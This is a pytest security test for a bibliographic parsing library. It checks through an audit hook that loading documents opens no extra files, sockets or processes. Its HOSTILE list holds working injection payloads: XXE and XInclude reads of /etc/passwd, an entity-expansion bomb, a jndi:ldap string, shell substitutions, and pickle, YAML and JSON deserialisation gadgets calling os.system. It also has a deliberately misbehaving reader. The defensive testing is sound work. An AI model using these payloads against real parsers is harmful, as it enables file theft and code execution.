"""Reading a document fetches nothing, starts nothing, runs nothing, and opens no file but the sources."""

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any, Final

import pytest

import coprod

ROOT: Final = Path(__file__).parent.parent

PATIENCE: Final = 120
"""Seconds after which a process hangs."""

# Reads everything once, so that all modules are there; then again, with a hook that hears of whatever Python asks of
# the system. A hook cannot be taken back, so this is a process of its own.
PROGRAM: Final = """\
import json, os, sys, warnings
import coprod
from coprod import serialise

folder, hostile = sys.argv[1:]

def everything():
    found = coprod.load(folder)
    for record in [*found, *found.diagnostics, *found.sources, found]:
        record._repr_html_(), record.to_json(), str(record), repr(record)
    for diagnostic in found.diagnostics:
        found.explain(diagnostic)
    list(serialise.to_jsonl(found))
    again = coprod.Collection.from_json(found.to_json())
    for text in json.load(open(hostile)):
        for name in (None, *coprod.formats()):
            try:
                coprod.loads(text, format=name)
            except coprod.exceptions.CoprodError:
                pass
        try:
            coprod.Collection.from_json(text)
        except coprod.exceptions.CoprodError:
            pass
    return len(found)

read = everything()
allowed = {os.path.realpath(os.path.join(parent, name)) for parent, _, names in os.walk(folder) for name in names}
heard = []
listening = True

HARMLESS = ("object.", "builtins.id", "sys._getframe", "gc.", "os.listdir", "os.scandir", "os.walk", "array.__new__")

def hear(event, arguments):
    if not listening or event.startswith(HARMLESS):
        return
    if event == "open" and isinstance(arguments[0], str) and os.path.realpath(arguments[0]) in allowed | {hostile}:
        return
    heard.append([event, repr(arguments)[:200]])

sys.addaudithook(hear)
assert everything() == read
listening = False
print(json.dumps({"heard": heard, "read": read}))
"""

ADDRESS: Final = "https://example.invalid/a"

HOSTILE: Final = [
    f'<html><head><base href="{ADDRESS}"><link rel="stylesheet" href="{ADDRESS}"><script src="{ADDRESS}"></script>',
    f'<html><body><img src="{ADDRESS}"><iframe src="file:///etc/passwd"></iframe><h1>Trust</h1></body></html>',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://example.invalid/a">%y;]><a>&x;</a>',
    "<!DOCTYPE a [" + "".join(f'<!ENTITY x{n + 1} "{f"&x{n};" * 10}">' for n in range(9)) + "]><html>&x9;</html>",
    f'<?xml version="1.0"?><?xml-stylesheet href="{ADDRESS}"?><html>a</html>',
    '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></x>',
    f"TY  - JOUR\nTI  - Trust\nUR  - {ADDRESS}\nL1  - file:///etc/passwd\nL4  - ../../secret.pdf\nER  - ",
    "TY  - JOUR\nTI  - ${jndi:ldap://example.invalid/a} $(id) `id` {{7*7}} %s %n {0.__class__}\nER  - ",
    'TY  - JOUR\nTI  - cos\\nsystem\\n(S"id"\\ntR.\nAB  - __import__("os").system("id")\nER  - ',
    '{"papers": [{"title": {"__reduce__": ["os.system", ["id"]]}}], "$ref": "https://example.invalid/a"}',
    '{"py/object": "os.system", "_kept": {"a": "/etc/passwd"}, "sources": [{"name": "/etc/passwd"}]}',
    "!!python/object/apply:os.system [id]",
    "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
]


# A reader that does what none may.
THIEF: Final = """\
import coprod
from coprod.readers import Reader, register
def read(document):
    open("/etc/hostname").close()
    __import__("socket").socket().close()
    yield coprod.Paper(title="Trust")
register(Reader(name="ris", sniff=lambda document: 1.0, read=read), replace=True)
"""


def heard_in(folder: Path, hostile: Path, before: str = "") -> dict[str, Any]:
    """What another process heard while it read the folder and the hostile texts."""
    environment = os.environ | {"PYTHONPATH": str(Path(coprod.__file__).parents[1])}
    command = [sys.executable, "-X", "utf8", "-c", before + PROGRAM, str(folder), str(hostile)]
    done = subprocess.run(command, env=environment, capture_output=True, check=False, timeout=PATIENCE)
    assert done.returncode == 0, done.stderr.decode()
    told: dict[str, Any] = json.loads(done.stdout)
    return told


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A file with texts that would like to do something."""
    path = (tmp_path / "hostile.json").resolve()
    path.write_text(json.dumps(HOSTILE), encoding="utf-8")
    return path


@pytest.mark.parametrize("folder", [ROOT / "seeds", ROOT / "tests" / "data"], ids=["seeds", "data"])
def test_nothing_but_the_sources_is_opened(folder: Path, hostile: Path) -> None:
    """No socket, no process, no code, no pickle, and no file but those that the caller named."""
    told = heard_in(folder, hostile)
    assert told["read"] > 0
    assert told["heard"] == []


@pytest.mark.skipif(os.name == "nt", reason="another file of POSIX")
def test_the_test_hears(hostile: Path) -> None:
    """A reader that opens another file, or a socket, is heard."""
    told = heard_in(ROOT / "seeds", hostile, THIEF)
    assert {event for event, _ in told["heard"]} == {"open", "socket.__new__"}


def test_paths_inside_documents_are_text() -> None:
    """A path or an address in a document stays a word: nothing looks whether it is there."""
    found = coprod.loads("TY  - JOUR\nL1  - /etc/passwd\nL4  - ../secret.pdf\nTI  - file:///etc/passwd\nER  - ")
    assert "root:" not in found.to_json()
    assert found.papers[0].title == "file:///etc/passwd"
